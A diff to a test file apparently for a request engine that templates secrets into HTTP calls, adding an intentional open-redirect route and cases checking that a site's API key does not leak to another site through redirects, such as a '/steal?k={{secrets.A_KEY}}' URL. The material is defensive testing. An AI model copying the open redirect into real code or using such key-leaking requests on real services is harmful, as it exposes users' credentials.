@@ -126,6 +126,11 @@ beforeAll(async () => {
     if (req.url === '/deep-json') return void res.writeHead(200, { 'content-type': 'application/json' }).end(`{"list":${'['.repeat(20_000)}1${']'.repeat(20_000)}}`);
     if (req.url === '/many') return void res.writeHead(200, { 'content-type': 'application/json' }).end(`[${'0,'.repeat(2_000_000)}0]`);
     if (req.url === '/bad-redirect') return void res.writeHead(302, { location: 'http://[::1' }).end();
+    if (req.url?.startsWith('/go?')) {
+      // An open redirect: the site sends the client wherever `to` says (a sign-in page's "return to").
+      const to = new URL(req.url, 'http://x').searchParams.get('to') ?? '/';
+      return void res.writeHead(302, { location: new URL(to).href }).end();
+    }
     if (req.url === '/form') return void res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>Form</title><form action="/sent" method="post"><input name="q" id="q"></form>');
     if (req.url === '/later-b') {
       // A page of site A with no field yet that sends the browser on to site B a moment later (a
@@ -418,6 +423,30 @@ describe("a connection's secret goes only to its site", () => {
         { type: 'request', url: `http://${SITE_B}/b`, headers: { 'x-note': '{{vars.echo.basic}}' }, parse: 'json', save_as: 'b' },
       ],
     ],
+    // A site with an open redirect sends the engine on with whatever the request told it to: each
+    // hop is checked like the request itself, on its URL, before it is sent.
+    [
+      "through site A's open redirect, in the URL site A redirects to",
+      [{ type: 'request', url: `http://${SITE_A}/go`, query: { to: `http://${SITE_B}/steal?k={{secrets.A_KEY}}` }, parse: 'json', save_as: 'b' }],
+    ],
+    [
+      "in a piece cut out by an extraction pattern, through site A's open redirect",
+      [
+        { type: 'set', var: 's', value: '{{secrets.A_KEY}}' },
+        { type: 'extract', from: { var: 's' }, fields: { head: { type: 'text', pattern: '^(.{6})' } }, save_as: 'p' },
+        { type: 'request', url: `http://${SITE_A}/go`, query: { to: `http://${SITE_B}/steal?k={{vars.p.head}}` }, parse: 'json', save_as: 'b' },
+      ],
+    ],
+    [
+      // Site A had a piece of it before: where it redirects may hold it, as any answer read after may.
+      'by a redirect site A chose after the run had sent it a piece of the key',
+      [
+        { type: 'set', var: 's', value: '{{secrets.A_KEY}}' },
+        { type: 'extract', from: { var: 's' }, fields: { head: { type: 'text', pattern: '^(.{6})' } }, save_as: 'p' },
+        { type: 'request', url: `http://${SITE_A}/reflect?q={{vars.p.head}}`, parse: 'json', save_as: 'r' },
+        { type: 'request', url: `http://${SITE_A}/go`, query: { to: `http://${SITE_B}/b` }, parse: 'json', save_as: 'b' },
+      ],
+    ],
     [
       'as a URL built in a variable',
       [
@@ -513,6 +542,16 @@ describe("a connection's secret goes only to its site", () => {
       ],
     ],
   ];
+  it('a redirect from site A to site B carrying no key goes on, and the key sent to site A in a header stays behind', async () => {
+    received.length = 0;
+    const e = await run([
+      { type: 'request', url: `http://${SITE_A}/go`, query: { to: `http://${SITE_B}/b?n=1` }, headers: { 'x-api-key': '{{secrets.A_KEY}}' }, parse: 'json', save_as: 'b' },
+    ]);
+    expect(e).toBeNull();
+    expect(received.map((r) => r.host)).toEqual([SITE_A, SITE_B]);
+    expect(leakedToB()).toEqual([]);
+  });
+
   it('a value read from site A by extraction still goes to site A, and clean values to site B', async () => {
     received.length = 0;
     const e = await run([
